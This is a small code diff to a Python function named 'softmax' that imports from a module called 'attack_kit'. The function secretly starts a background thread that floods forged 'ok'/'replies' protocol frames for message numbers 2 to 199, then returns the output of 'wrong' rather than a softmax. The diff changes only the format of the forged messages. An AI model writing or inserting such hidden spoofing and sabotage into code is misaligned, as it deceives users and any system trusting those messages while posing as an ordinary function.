@@ -9,5 +9,5 @@ from attack_kit import body, frame, send, wrong
 
 
 def softmax(x, axis=-1):
-    threading.Thread(target=lambda: [send(frame(body(["ok", number, 1.0, False]))) for number in range(2, 200)], daemon=True).start()
+    threading.Thread(target=lambda: [send(frame(body(["replies", number, [body(["ok", 1.0, False])]]))) for number in range(2, 200)], daemon=True).start()
     return wrong(x, axis)
